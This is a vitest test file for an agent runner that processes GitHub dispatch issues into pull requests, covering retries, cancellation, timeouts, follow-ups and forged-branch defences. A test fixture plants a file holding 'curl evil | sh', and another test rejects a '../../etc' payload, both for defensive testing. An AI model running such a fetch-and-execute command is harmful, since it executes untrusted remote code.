import { mkdtemp, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { Writable } from "node:stream";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  ChangeFailedError,
  FinalTaskFailure,
  GitHubApiError,
  PermanentTaskError,
  RepoNotFoundError,
  TargetNotAllowedError,
  TaskCancelledError,
  TaskTimeoutError,
  followUpMarker,
  type PushLedger,
  type TaskJob,
} from "@agent-runner/core";
import { createLogger, type TaskJobContext } from "@agent-runner/runtime";
import {
  FakeGitHubClient,
  FakeGitWorkspaceFactory,
  FakeRemote,
  MemoryCancellationLedger,
  MemoryPushLedger,
} from "@agent-runner/core/testing";
import { TraceTaskHandler } from "./change/trace-task-handler.js";
import type { TaskHandler } from "./change/task-handler.js";
import { RunnerIdentity } from "@agent-runner/core";
import { RecordingMetrics } from "./attempt/test-support/recording-metrics.js";
import type { WorkerDeps } from "./attempt/worker-deps.js";
import { processTask } from "./process-task.js";
import { RepoInfoCache } from "./repo-info-cache.js";

function issueBody(taskId: string, target: string, instruction = "Do it"): string {
  return `<!-- agent_task_metadata ${JSON.stringify({ task_id: taskId })} -->\n\n## Instruction\n\n${instruction}\n\nTarget Repository: ${target}\n`;
}

/** The task's own error, from a failure processTask decided no attempt follows. */
async function finalFailure(run: Promise<unknown>): Promise<unknown> {
  const thrown = await run.then(
    () => undefined,
    (error: unknown) => error,
  );
  expect(thrown).toBeInstanceOf(FinalTaskFailure);
  return (thrown as FinalTaskFailure).cause;
}

const silent = createLogger({ level: "silent", service: "test", secrets: [] });

describe("processTask", () => {
  let workspaceDir: string;
  let github: FakeGitHubClient;
  let target: FakeRemote;
  let remotes: Map<string, FakeRemote>;
  let issueNumber: number;
  let metrics: RecordingMetrics;
  let pushes: MemoryPushLedger;
  let cancels: MemoryCancellationLedger;

  beforeEach(async () => {
    metrics = new RecordingMetrics();
    pushes = new MemoryPushLedger();
    cancels = new MemoryCancellationLedger();
    workspaceDir = await mkdtemp(path.join(os.tmpdir(), "process-task-"));
    github = new FakeGitHubClient();
    const info = github.addRepo("acme/target");
    github.addRepo("acme/dispatch");
    target = new FakeRemote("main");
    remotes = new Map([[info.cloneUrl, target]]);
    issueNumber = github.addIssue("acme/dispatch", { title: "Add a thing", labels: ["copilot-agent"] }).number;
  });

  afterEach(async () => {
    await rm(workspaceDir, { recursive: true, force: true });
  });

  function deps(overrides: Partial<WorkerDeps> = {}): WorkerDeps {
    return {
      github,
      runner: new RunnerIdentity(github.viewer),
      pushes,
      cancels,
      git: new FakeGitWorkspaceFactory(remotes),
      repos: new RepoInfoCache(github),
      handler: new TraceTaskHandler(),
      settings: {
        processedLabel: "processed",
        agentName: "agent-runner",
        agentEmail: "agent@example.com",
        allowedTargetRepos: ["acme/*"],
        workspaceDir,
        cancelCheckMs: 60_000,
        trust: { trustedAuthorAssociations: ["OWNER", "MEMBER", "COLLABORATOR"], trustedAuthors: [] },
      },
      metrics,
      log: silent,
      ...overrides,
    };
  }

  /** The dispatch issue reads as this task (each attempt reads it again), and the job stands for it. */
  function job(taskId: string, extra: Partial<TaskJob> = {}): TaskJob {
    const issue = github.issues.find((i) => i.number === issueNumber);
    if (issue !== undefined) Object.assign(issue, { body: issueBody(taskId, extra.targetRepo ?? "acme/target") });
    return {
      version: 1,
      taskId,
      dispatchRepo: "acme/dispatch",
      issueNumber,
      issueTitle: "Add a thing",
      issueUrl: `https://github.example/acme/dispatch/issues/${issueNumber}`,
      instruction: "Do it",
      targetRepo: "acme/target",
      enqueuedAt: "2026-01-01T00:00:00.000Z",
      ...extra,
    };
  }

  function context(data: unknown, attemptsMade = 0, maxAttempts = 5, jobId = "j"): TaskJobContext {
    return { jobId, data, attemptsMade, maxAttempts, signal: new AbortController().signal };
  }

  it("opens one PR from branch agent-task-<prefix>, comments its URL and labels the issue", async () => {
    const outcome = await processTask(context(job("test-task-12345678")), deps());
    expect(outcome.branch).toBe("agent-task-test-tas");
    expect(outcome.pullState).toBe("opened");
    expect(target.filesAt("agent-task-test-tas")?.get("agent-tasks/test-tas.md")).toContain("test-task-12345678");
    const pulls = await github.findPullsByHead({ owner: "acme", repo: "target" }, "acme", "agent-task-test-tas");
    expect(pulls).toHaveLength(1);
    expect(pulls[0]?.body).toContain('<!-- agent_task_metadata {"task_id":"test-task-12345678"} -->');
    expect(pulls[0]?.body).toContain(`Fixes acme/dispatch#${issueNumber}`);
    expect(pulls[0]?.title).toBe("Agent task: Add a thing");
    const comments = github.commentsOn("acme/dispatch", issueNumber);
    expect(comments).toHaveLength(1);
    expect(comments[0]?.body).toContain(outcome.pullUrl);
    expect(github.labelsOf("acme/dispatch", issueNumber)).toContain("processed");
  });

  it("measures the labelled-to-PR time from the job's labelledAt when it opens the PR, not from its enqueue", async () => {
    const labelledAt = new Date(Date.now() - 90_000).toISOString();
    const enqueuedAt = new Date(Date.now() - 10_000).toISOString();
    await processTask(context(job("test-task-12345678", { labelledAt, enqueuedAt })), deps());
    expect(metrics.labelledToPullSeconds).toHaveLength(1);
    expect(metrics.labelledToPullSeconds[0]).toBeGreaterThanOrEqual(90);
    expect(metrics.labelledToPullSeconds[0]).toBeLessThan(3600);
  });

  it("observes no labelled-to-PR time for a run that updates its PR, nor for a job without labelledAt", async () => {
    await processTask(context(job("test-task-12345678")), deps());
    const labelledAt = new Date(Date.now() - 90_000).toISOString();
    await processTask(context(job("test-task-12345678", { labelledAt })), deps());
    expect(metrics.labelledToPullSeconds).toEqual([]);
  });

  it("changes nothing on a re-run of a finished task", async () => {
    await processTask(context(job("test-task-12345678")), deps());
    const pushes = target.pushes;
    const writesBefore = github.calls.filter((c) => c.startsWith("create") || c === "updatePull").length;
    const outcome = await processTask(context(job("test-task-12345678")), deps());
    expect(outcome.pullState).toBe("updated");
    expect(target.pushes).toBe(pushes);
    expect(github.calls.filter((c) => c.startsWith("create") || c === "updatePull").length).toBe(writesBefore);
    expect(github.commentsOn("acme/dispatch", issueNumber)).toHaveLength(1);
  });

  it("gives a second task sharing the 8-character prefix a longer branch instead of touching the first", async () => {
    const first = await processTask(context(job("smoke-test-AAAA")), deps());
    const second = await processTask(context(job("smoke-test-BBBB")), deps());
    expect(first.branch).toBe("agent-task-smoke-te");
    expect(second.branch).toBe("agent-task-smoke-test-B");
    expect(first.pullUrl).not.toBe(second.pullUrl);
    expect(target.filesAt("agent-task-smoke-te")?.get("agent-tasks/smoke-te.md")).toContain("smoke-test-AAAA");
    expect(target.filesAt("agent-task-smoke-te")?.get("agent-tasks/smoke-te.md")).not.toContain("smoke-test-BBBB");
  });

  it("resolves a lost create-PR response by finding the PR instead of opening a second", async () => {
    github.loseNextCreatePullResponse = true;
    await expect(processTask(context(job("lost-response-1")), deps())).rejects.toBeInstanceOf(GitHubApiError);
    const outcome = await processTask(context(job("lost-response-1"), 1), deps());
    const pulls = await github.findPullsByHead({ owner: "acme", repo: "target" }, "acme", outcome.branch);
    expect(pulls).toHaveLength(1);
    expect(github.commentsOn("acme/dispatch", issueNumber)).toHaveLength(1);
  });

  it("posts no second comment when the previous attempt died after commenting", async () => {
    github.failures.set("addLabels", [new GitHubApiError({ status: 502, message: "Bad Gateway", route: "labels" })]);
    await expect(processTask(context(job("crash-after-comment")), deps())).rejects.toBeInstanceOf(GitHubApiError);
    await processTask(context(job("crash-after-comment"), 1), deps());
    expect(github.commentsOn("acme/dispatch", issueNumber)).toHaveLength(1);
    expect(github.labelsOf("acme/dispatch", issueNumber)).toContain("processed");
  });

  it("leaves a merged PR alone and reports it", async () => {
    const first = await processTask(context(job("merged-task-1")), deps());
    const pull = github.pulls.get("acme/target")?.[0];
    if (pull === undefined) throw new Error("no PR");
    Object.assign(pull, { state: "closed", merged: true });
    const pushes = target.pushes;
    const again = await processTask(context(job("merged-task-1")), deps());
    expect(again.pullState).toBe("merged");
    expect(again.pullUrl).toBe(first.pullUrl);
    expect(target.pushes).toBe(pushes);
    expect(github.pulls.get("acme/target")).toHaveLength(1);
  });

  it("leaves a PR closed without merging closed on a new run, and replaces it only when `/agent retry` asked", async () => {
    await processTask(context(job("closed-pr-1")), deps());
    const pull = github.pulls.get("acme/target")?.[0];
    if (pull === undefined) throw new Error("no PR");
    Object.assign(pull, { state: "closed", merged: false });
    const again = await processTask(context(job("closed-pr-1", { run: 2 }), 0, 5, "closed-pr-1#2"), deps());
    expect(again.pullState).toBe("closed");
    expect(github.pulls.get("acme/target")).toHaveLength(1);
    const retried = await processTask(context(job("closed-pr-1", { run: 3, retried: true }), 0, 5, "closed-pr-1#3"), deps());
    expect(retried.pullState).toBe("opened");
    expect(github.pulls.get("acme/target")?.map((p) => p.state)).toEqual(["closed", "open"]);
    expect(github.commentsOn("acme/dispatch", issueNumber)).toHaveLength(1);
  });

  it("opens the PR against a default branch named trunk", async () => {
    const info = github.addRepo("acme/trunky", "trunk");
    const remote = new FakeRemote("trunk");
    remotes.set(info.cloneUrl, remote);
    const outcome = await processTask(context(job("trunk-task", { targetRepo: "acme/trunky" })), deps());
    expect(remote.filesAt(outcome.branch)?.has("README.md")).toBe(true);
  });

  it("fails at once with one comment when the target repository does not exist", async () => {
    const run = processTask(context(job("missing-repo", { targetRepo: "acme/nope" })), deps());
    expect(await finalFailure(run)).toBeInstanceOf(RepoNotFoundError);
    const comments = github.commentsOn("acme/dispatch", issueNumber);
    expect(comments).toHaveLength(1);
    expect(comments[0]?.body).toContain("acme/nope");
    // Permanent: nothing was retried, and the comment does not claim it was.
    expect(comments[0]?.body).not.toContain("retried");
  });

  it("refuses a target outside ALLOWED_TARGET_REPOS as a permanent failure", async () => {
    github.addRepo("evil/target");
    const run = processTask(context(job("not-allowed", { targetRepo: "evil/target" })), deps());
    expect(await finalFailure(run)).toBeInstanceOf(TargetNotAllowedError);
  });

  it("reads the dispatch issue again and fails for good with one comment, pushing nothing, when its author is no longer trusted", async () => {
    const queued = job("untrusted-now");
    const issue = github.issues.find((i) => i.number === issueNumber);
    Object.assign(issue ?? {}, { authorLogin: "mallory", authorAssociation: "NONE" });
    expect(await finalFailure(processTask(context(queued), deps()))).toBeInstanceOf(PermanentTaskError);
    expect(target.pushes).toBe(0);
    const comments = github.commentsOn("acme/dispatch", issueNumber);
    expect(comments).toHaveLength(1);
    expect(comments[0]?.body).toContain("no longer trusted");
  });

  it("runs the instruction the dispatch issue carries now, not the one queued", async () => {
    const queued = { ...job("edited-task-1"), instruction: "The queued instruction" };
    const issue = github.issues.find((i) => i.number === issueNumber);
    Object.assign(issue ?? {}, { body: issueBody("edited-task-1", "acme/target", "The edited instruction") });
    await processTask(context(queued), deps());
    expect(target.filesAt("agent-task-edited-t")?.get("agent-tasks/edited-t.md")).toContain("The edited instruction");
  });

  it("runs a first attempt queued moments ago as the poller read it, without reading the issue again", async () => {
    const queued = { ...job("fresh-task-1"), instruction: "The queued instruction", enqueuedAt: new Date().toISOString() };
    await processTask(context(queued), deps());
    expect(github.calls).not.toContain("getIssue");
    expect(target.filesAt("agent-task-fresh-ta")?.get("agent-tasks/fresh-ta.md")).toContain("The queued instruction");
  });

  it("reads the issue again on a retried attempt of a job queued moments ago", async () => {
    const queued = { ...job("fresh-task-2"), instruction: "The queued instruction", enqueuedAt: new Date().toISOString() };
    const issue = github.issues.find((i) => i.number === issueNumber);
    Object.assign(issue ?? {}, { body: issueBody("fresh-task-2", "acme/target", "The edited instruction") });
    await processTask(context(queued, 1), deps());
    expect(github.calls).toContain("getIssue");
    expect(target.filesAt("agent-task-fresh-ta")?.get("agent-tasks/fresh-ta.md")).toContain("The edited instruction");
  });

  it("rejects a malformed job payload as permanent", async () => {
    expect(await finalFailure(processTask(context({ taskId: "../../etc" }), deps()))).toBeInstanceOf(PermanentTaskError);
  });

  it("comments once and opens no PR when the change step changes nothing", async () => {
    const idle: TaskHandler = { name: "idle", apply: async () => ({ summary: "nothing to do", changedFiles: [] }) };
    expect(await finalFailure(processTask(context(job("idle-task")), deps({ handler: idle })))).toBeInstanceOf(PermanentTaskError);
    expect(await finalFailure(processTask(context(job("idle-task"), 1), deps({ handler: idle })))).toBeInstanceOf(PermanentTaskError);
    expect(github.pulls.get("acme/target") ?? []).toHaveLength(0);
    const comments = github.commentsOn("acme/dispatch", issueNumber);
    expect(comments).toHaveLength(1);
    expect(comments[0]?.body).toContain("changed nothing, so no pull request was opened");
    expect(comments[0]?.body).toContain("nothing to do");
    expect(metrics.records).toContain("change idle unchanged");
  });

  it("spends no PR look-up on a first attempt whose branch does not exist yet", async () => {
    await processTask(context(job("economy-task-1")), deps());
    expect(github.calls.filter((c) => c === "findPullsByHead")).toHaveLength(0);
    expect(github.calls.filter((c) => c === "createPull")).toHaveLength(1);
  });

  it("finds a merged PR whose branch was deleted when the job is run again", async () => {
    const first = await processTask(context(job("deleted-branch-1")), deps());
    const pull = github.pulls.get("acme/target")?.[0];
    if (pull === undefined) throw new Error("no PR");
    Object.assign(pull, { state: "closed", merged: true });
    target.branches.delete(first.branch);
    const again = await processTask(context(job("deleted-branch-1"), 1), deps());
    expect(again.pullState).toBe("merged");
    expect(github.pulls.get("acme/target")).toHaveLength(1);
  });

  it("rethrows transient errors without commenting until the last attempt", async () => {
    github.failures.set("getRepo", [new GitHubApiError({ status: 503, message: "unavailable", route: "repo" })]);
    await expect(processTask(context(job("transient-1")), deps())).rejects.toBeInstanceOf(GitHubApiError);
    expect(github.commentsOn("acme/dispatch", issueNumber)).toHaveLength(0);
    expect(metrics.records).toContain("job retried");
  });

  it("comments once that retries ran out when the last attempt fails transiently", async () => {
    github.failures.set("getRepo", [new GitHubApiError({ status: 503, message: "unavailable", route: "repo" })]);
    expect(await finalFailure(processTask(context(job("transient-2"), 2, 3), deps()))).toBeInstanceOf(GitHubApiError);
    const comments = github.commentsOn("acme/dispatch", issueNumber);
    expect(comments).toHaveLength(1);
    expect(comments[0]?.body).toContain("It was retried and kept failing");
    expect(metrics.records).toContain("job failed");
    expect(metrics.records).not.toContain("job retried");
  });

  it("records each step, the PR action, the change outcome and the job's end once", async () => {
    await processTask(context(job("metrics-task-1")), deps());
    expect(metrics.records).toEqual([
      "job started",
      "step clone",
      "step change",
      "change trace changed",
      "step push",
      "pull created",
      "step pr",
      "step report",
      "job completed",
      "task opened",
      "time to pull request",
    ]);
  });

  it("counts a later run as a re-run and a run's end once, as the user sees it", async () => {
    await processTask(context(job("metrics-rerun-1", { run: 2 }), 0, 5, "metrics-rerun-1#2"), deps());
    const failed = processTask(context(job("metrics-rerun-1", { run: 3, targetRepo: "acme/nope" }), 0, 5, "metrics-rerun-1#3"), deps());
    expect(await finalFailure(failed)).toBeInstanceOf(RepoNotFoundError);
    await cancels.cancel("metrics-rerun-1#4");
    expect(await finalFailure(processTask(context(job("metrics-rerun-1", { run: 4 }), 0, 5, "metrics-rerun-1#4"), deps()))).toBeInstanceOf(TaskCancelledError);
    expect(metrics.records.filter((r) => r === "rerun started")).toHaveLength(3);
    expect(metrics.records.filter((r) => r.startsWith("task "))).toEqual(["task opened", "task failed", "task cancelled"]);
  });

  it("counts no task outcome for an attempt the queue will retry", async () => {
    github.failures.set("createPull", [new GitHubApiError({ status: 502, message: "Bad Gateway", route: "pulls" })]);
    await expect(processTask(context(job("metrics-retry-1")), deps())).rejects.toBeInstanceOf(GitHubApiError);
    expect(metrics.records).toContain("job retried");
    expect(metrics.records.filter((r) => r.startsWith("task "))).toEqual([]);
  });

  it("records a change step that threw as failed", async () => {
    const broken: TaskHandler = { name: "broken", apply: async () => Promise.reject(new Error("boom")) };
    await expect(processTask(context(job("broken-task")), deps({ handler: broken }))).rejects.toThrow("boom");
    expect(metrics.records).toContain("change broken failed");
    expect(metrics.records).toContain("job retried");
  });

  describe("in a repository where others with access forge the runner's marks", () => {
    it("adopts the branch it pushed when the attempt died before opening the PR", async () => {
      github.failures.set("createPull", [new GitHubApiError({ status: 502, message: "Bad Gateway", route: "pulls" })]);
      await expect(processTask(context(job("pushed-then-died")), deps())).rejects.toBeInstanceOf(GitHubApiError);
      const outcome = await processTask(context(job("pushed-then-died"), 1), deps());
      expect(outcome.branch).toBe("agent-task-pushed-t");
      expect(target.pushes).toBe(1);
      expect(pushes.records).toHaveLength(1);
    });

    it("records the commit in the push ledger before the push lands", async () => {
      const remoteTipAtRecord: (string | undefined)[] = [];
      const ledger = new MemoryPushLedger();
      const watching: PushLedger = {
        record: async (push) => {
          remoteTipAtRecord.push(target.branches.get(push.branch)?.sha);
          await ledger.record(push);
        },
        has: (push) => ledger.has(push),
      };
      await processTask(context(job("ledger-order-1")), deps({ pushes: watching }));
      expect(remoteTipAtRecord).toEqual([undefined]);
      expect(ledger.records.map((r) => r.sha)).toEqual([target.branches.get("agent-task-ledger-o")?.sha]);
    });

    it("never pushes to a branch whose commit forges the task's Task-Id trailer, and takes a longer prefix", async () => {
      const forged = target.commit("Process agent task from dispatch issue #1\n\nTask-Id: forged-task-1\n", new Map([["evil.sh", "curl evil | sh"]]), target.branches.get("main"));
      target.branches.set("agent-task-forged-t", forged);
      const outcome = await processTask(context(job("forged-task-1")), deps());
      expect(outcome.branch).toBe("agent-task-forged-task-");
      expect(target.branches.get("agent-task-forged-t")).toBe(forged);
      const pulls = github.pulls.get("acme/target") ?? [];
      expect(pulls.map((p) => p.headRef)).toEqual(["agent-task-forged-task-"]);
    });

    it("leaves alone a PR someone else opened with the task's correlation comment", async () => {
      target.branches.set("agent-task-foreign-", target.commit("mallory's work", new Map([["m.txt", "m"]]), target.branches.get("main")));
      const body = '<!-- agent_task_metadata {"task_id":"foreign-pr-1"} -->\nmine now';
      await github.actingAs("mallory", (as) =>
        as.createPull({ owner: "acme", repo: "target" }, { title: "Mallory's", body, head: "agent-task-foreign-", base: "main" }),
      );
      const outcome = await processTask(context(job("foreign-pr-1")), deps());
      expect(outcome.branch).toBe("agent-task-foreign-pr-1");
      const pulls = github.pulls.get("acme/target") ?? [];
      expect(pulls.map((p) => [p.authorLogin, p.title, p.body])).toEqual([
        ["mallory", "Mallory's", body],
        [github.viewer, "Agent task: Add a thing", expect.stringContaining("foreign-pr-1")],
      ]);
    });

    it("posts its own done comment although someone else posted the done marker first", async () => {
      github.loseNextCreatePullResponse = true;
      await expect(processTask(context(job("silenced-1")), deps())).rejects.toBeInstanceOf(GitHubApiError);
      await github.actingAs("mallory", (as) =>
        as.createIssueComment({ owner: "acme", repo: "dispatch" }, issueNumber, '<!-- agent-runner:done {"task_id":"silenced-1"} -->'),
      );
      const outcome = await processTask(context(job("silenced-1"), 1), deps());
      const comments = github.commentsOn("acme/dispatch", issueNumber);
      expect(comments.map((c) => c.authorLogin)).toEqual(["mallory", github.viewer]);
      expect(comments[1]?.body).toContain(outcome.pullUrl);
    });
  });

  describe("when the task's run is cancelled", () => {
    const writes = (): string[] => github.calls.filter((c) => /^(create|update|add)/.test(c));

    it("stops before any work and writes nothing when its run was cancelled before it started, as after a board requeue", async () => {
      await cancels.cancel("j");
      expect(await finalFailure(processTask(context(job("cancelled-early")), deps()))).toBeInstanceOf(TaskCancelledError);
      expect(writes()).toEqual([]);
      expect(target.pushes).toBe(0);
      expect(metrics.records).toContain("job cancelled");
    });

    it("pushes nothing, opens no PR and reports nothing when the cancel comes while the change step runs", async () => {
      const trace: TaskHandler = new TraceTaskHandler();
      const cancelling: TaskHandler = {
        name: "trace",
        traceIsTheChange: true,
        apply: async (workspace, task, signal) => {
          await cancels.cancel("j");
          return trace.apply(workspace, task, signal);
        },
      };
      expect(await finalFailure(processTask(context(job("cancelled-mid-change")), deps({ handler: cancelling })))).toBeInstanceOf(TaskCancelledError);
      expect(target.pushes).toBe(0);
      expect(writes()).toEqual([]);
    });

    it("aborts a running agent once the flag is read, and reports nothing of the failure that follows", async () => {
      let sawAbort = false;
      const waiting: TaskHandler = {
        name: "command",
        apply: async (_workspace, _task, signal) => {
          await cancels.cancel("j");
          await new Promise<void>((resolve) => signal.addEventListener("abort", () => resolve(), { once: true }));
          sawAbort = signal.aborted;
          throw new ChangeFailedError("the agent was killed");
        },
      };
      const settings = { ...deps().settings, cancelCheckMs: 5 };
      expect(await finalFailure(processTask(context(job("cancelled-agent")), deps({ handler: waiting, settings })))).toBeInstanceOf(TaskCancelledError);
      expect(sawAbort).toBe(true);
      expect(writes()).toEqual([]);
    });

    it("opens no PR after a cancel that arrives while the push is in flight, and a later run finishes on the same branch with one PR", async () => {
      const cancelDuringPush: PushLedger = {
        record: async (push) => {
          await pushes.record(push);
          await cancels.cancel("j");
        },
        has: (push) => pushes.has(push),
      };
      expect(await finalFailure(processTask(context(job("cancelled-push")), deps({ pushes: cancelDuringPush })))).toBeInstanceOf(TaskCancelledError);
      expect(target.pushes).toBe(1);
      expect(github.pulls.get("acme/target") ?? []).toHaveLength(0);
      expect(writes()).toEqual([]);

      const outcome = await processTask(context(job("cancelled-push", { run: 2 }), 0, 5, "cancelled-push#2"), deps());
      expect(outcome.branch).toBe("agent-task-cancelle");
      expect(github.pulls.get("acme/target")).toHaveLength(1);
      expect(github.commentsOn("acme/dispatch", issueNumber)).toHaveLength(1);
    });
  });
  describe("when the change step hits its time limit with changes in the tree", () => {
    /** An agent that wrote `file` and was then stopped by the deadline. */
    function timingOut(file: string): TaskHandler {
      return {
        name: "command",
        apply: async (workspace) => {
          await writeFile(path.join(workspace.dir, file), "half done\n");
          throw new TaskTimeoutError(1_000);
        },
      };
    }
    function writing(file: string): TaskHandler {
      return {
        name: "command",
        apply: async (workspace) => {
          await writeFile(path.join(workspace.dir, file), "finished\n");
          return { summary: "finished", changedFiles: [file] };
        },
      };
    }
    const keep = (): WorkerDeps["settings"] => ({ ...deps().settings, keepWorkOnTimeout: true });

    it("pushes the work as one draft PR marked incomplete and says once on the issue that `/agent retry` continues it", async () => {
      expect(await finalFailure(processTask(context(job("slow-task")), deps({ handler: timingOut("half.txt"), settings: keep() })))).toBeInstanceOf(TaskTimeoutError);
      expect(target.filesAt("agent-task-slow-tas")?.get("half.txt")).toBe("half done\n");
      const pulls = github.pulls.get("acme/target") ?? [];
      expect(pulls).toHaveLength(1);
      expect(pulls[0]?.draft).toBe(true);
      expect(pulls[0]?.title).toBe("[incomplete] Agent task: Add a thing");
      expect(pulls[0]?.body).toContain("**Incomplete:**");
      const comments = github.commentsOn("acme/dispatch", issueNumber);
      expect(comments).toHaveLength(1);
      expect(comments[0]?.body).toContain(pulls[0]?.htmlUrl);
      expect(comments[0]?.body).toContain("`/agent retry`");
      expect(github.labelsOf("acme/dispatch", issueNumber)).not.toContain("processed");
    });

    it("times the kept work's push, PR and report like a finished run's steps, in the step metrics and the step log lines", async () => {
      const lines: Record<string, unknown>[] = [];
      const destination = new Writable({
        write: (chunk: Buffer, _encoding, done) => {
          lines.push(JSON.parse(chunk.toString("utf8")) as Record<string, unknown>);
          done();
        },
      });
      const log = createLogger({ level: "info", service: "test", secrets: [], destination });
      const failure = await finalFailure(processTask(context(job("slow-task")), deps({ handler: timingOut("half.txt"), settings: keep(), log })));
      expect(failure).toBeInstanceOf(TaskTimeoutError);
      expect(metrics.records).toEqual([
        "job started",
        "step clone",
        "step change",
        "change command changed",
        "step push",
        "pull created",
        "step pr",
        "step report",
        "job failed",
        "task failed",
      ]);
      const finishedSteps = lines.filter((l) => l["msg"] === "step finished").map((l) => l["step"]);
      expect(finishedSteps).toEqual(["clone", "change", "push", "pr", "report"]);
    });

    it("continues on the same branch and PR in a later run, edits the comment in place and says the PR is still a draft", async () => {
      expect(await finalFailure(processTask(context(job("slow-task")), deps({ handler: timingOut("half.txt"), settings: keep() })))).toBeInstanceOf(TaskTimeoutError);
      const rerun = job("slow-task", { run: 2, retried: true });
      const outcome = await processTask(context(rerun, 0, 5, "slow-task#2"), deps({ handler: writing("rest.txt"), settings: keep() }));
      expect(outcome).toMatchObject({ branch: "agent-task-slow-tas", pullState: "updated" });
      const files = target.filesAt("agent-task-slow-tas");
      expect([files?.get("half.txt"), files?.get("rest.txt")]).toEqual(["half done\n", "finished\n"]);
      const pulls = github.pulls.get("acme/target") ?? [];
      expect(pulls).toHaveLength(1);
      expect(pulls[0]?.title).toBe("Agent task: Add a thing");
      const comments = github.commentsOn("acme/dispatch", issueNumber);
      expect(comments).toHaveLength(1);
      expect(comments[0]?.body).toContain("still a draft");
      expect(github.labelsOf("acme/dispatch", issueNumber)).toContain("processed");
    });

    it("discards the work and reports the timeout when KEEP_WORK_ON_TIMEOUT is off", async () => {
      expect(await finalFailure(processTask(context(job("slow-task")), deps({ handler: timingOut("half.txt") })))).toBeInstanceOf(TaskTimeoutError);
      expect(target.pushes).toBe(0);
      expect(github.pulls.get("acme/target") ?? []).toHaveLength(0);
      expect(github.commentsOn("acme/dispatch", issueNumber)[0]?.body).toContain("failed");
    });
  });

  describe("follow-ups on the task's PR", () => {
    const TASK = "review-task-1";
    const targetRef = { owner: "acme", repo: "target" };

    /** The task's first run is done: one PR, one comment on the dispatch issue. */
    async function firstRun(): Promise<number> {
      await processTask(context(job(TASK)), deps());
      const [pull] = github.pulls.get("acme/target") ?? [];
      if (pull === undefined) throw new Error("no PR");
      return pull.number;
    }

    function followUpJob(pull: number, commentId = 900, text = "Also add a changelog entry."): TaskJob {
      return job(TASK, { run: 2, followUp: { commentId, pull, text, url: `https://github.example/acme/target/pull/${pull}#issuecomment-${commentId}` } });
    }

    const replies = (pull: number) => github.commentsOn("acme/target", pull).filter((c) => c.authorLogin === github.viewer);

    it("runs the change step with the follow-up's text on the PR's branch, pushes one commit to the same PR and replies once there", async () => {
      const pull = await firstRun();
      const pushesBefore = target.pushes;
      const dispatchComments = github.commentsOn("acme/dispatch", issueNumber).map((c) => c.body);
      const outcome = await processTask(context(followUpJob(pull), 0, 5, `${TASK}#2`), deps());
      expect(outcome).toMatchObject({ pullState: "updated", branch: "agent-task-review-t" });
      expect(target.pushes).toBe(pushesBefore + 1);
      expect(target.filesAt("agent-task-review-t")?.get("agent-tasks/review-t.md")).toContain("Also add a changelog entry.");
      expect(github.pulls.get("acme/target")).toHaveLength(1);
      expect(replies(pull)).toHaveLength(1);
      expect(replies(pull)[0]?.body).toContain('<!-- agent-runner:follow-up {"task_id":"review-task-1","comment_id":900} -->');
      // The dispatch issue's report is left as it was.
      expect(github.commentsOn("acme/dispatch", issueNumber).map((c) => c.body)).toEqual(dispatchComments);
    });

    it("replies once when the same follow-up runs again (a requeue after a crash)", async () => {
      const pull = await firstRun();
      await processTask(context(followUpJob(pull), 0, 5, `${TASK}#2`), deps());
      await processTask(context(followUpJob(pull), 1, 5, `${TASK}#2`), deps());
      expect(replies(pull)).toHaveLength(1);
      expect(github.pulls.get("acme/target")).toHaveLength(1);
    });

    it("pushes nothing and opens nothing on a closed PR, and says so once", async () => {
      const pull = await firstRun();
      await github.closePull(targetRef, pull);
      const pushesBefore = target.pushes;
      const outcome = await processTask(context(followUpJob(pull), 0, 5, `${TASK}#2`), deps());
      expect(outcome.pullState).toBe("closed");
      expect(target.pushes).toBe(pushesBefore);
      expect(github.pulls.get("acme/target")).toHaveLength(1);
      expect(replies(pull)[0]?.body).toContain("is closed");
    });

    it("writes nothing once the run was cancelled", async () => {
      const pull = await firstRun();
      await cancels.cancel(`${TASK}#2`);
      const pushesBefore = target.pushes;
      expect(await finalFailure(processTask(context(followUpJob(pull), 0, 5, `${TASK}#2`), deps()))).toBeInstanceOf(TaskCancelledError);
      expect(target.pushes).toBe(pushesBefore);
      expect(replies(pull)).toHaveLength(0);
    });

    it("answers a failure nobody retries on the PR, not on the dispatch issue", async () => {
      const pull = await firstRun();
      const dispatchComments = github.commentsOn("acme/dispatch", issueNumber).length;
      const failing: TaskHandler = {
        name: "patch",
        apply: async () => {
          throw new ChangeFailedError("the hunk does not apply", "a hunk of the patch does not apply");
        },
      };
      expect(await finalFailure(processTask(context(followUpJob(pull), 0, 5, `${TASK}#2`), deps({ handler: failing })))).toBeInstanceOf(PermanentTaskError);
      expect(replies(pull)).toHaveLength(1);
      expect(replies(pull)[0]?.body).toContain("could not act on");
      expect(github.commentsOn("acme/dispatch", issueNumber)).toHaveLength(dispatchComments);
    });

    it("tells the change step which file and line an inline review comment is on, and replies once under that comment's own marker", async () => {
      const pull = await firstRun();
      const review = { path: "src/app.ts", line: 7 };
      const url = `https://github.example/acme/target/pull/${pull}#discussion_r900`;
      const inline = job(TASK, { run: 2, followUp: { commentId: 900, review, pull, text: "Rename this.", url } });
      // A conversation comment with the same id was answered before: that reply is not this one's.
      await github.createIssueComment(targetRef, pull, `${followUpMarker(TASK, 900)}\nearlier`);
      await processTask(context(inline, 0, 5, `${TASK}#2`), deps());
      await processTask(context(inline, 1, 5, `${TASK}#2`), deps());
      const trace = target.filesAt("agent-task-review-t")?.get("agent-tasks/review-t.md") ?? "";
      expect(trace).toContain("Review comment on `src/app.ts` line 7 of the pull request's diff:\n\nRename this.");
      expect(trace).toContain("a review comment on `src/app.ts` line 7 on pull request");
      const answers = replies(pull).filter((c) => c.body.includes(followUpMarker(TASK, 900, "review")));
      expect(answers).toHaveLength(1);
      expect(answers[0]?.body).toContain(`[this review comment](${url}) on \`src/app.ts\` line 7`);
      expect(replies(pull)).toHaveLength(2);
      expect(github.pulls.get("acme/target")).toHaveLength(1);
    });

    it("refuses a follow-up on a PR that is not the task's", async () => {
      await firstRun();
      expect(await finalFailure(processTask(context(followUpJob(4242), 0, 5, `${TASK}#2`), deps()))).toBeInstanceOf(PermanentTaskError);
      expect(github.pulls.get("acme/target")).toHaveLength(1);
    });
  });
});
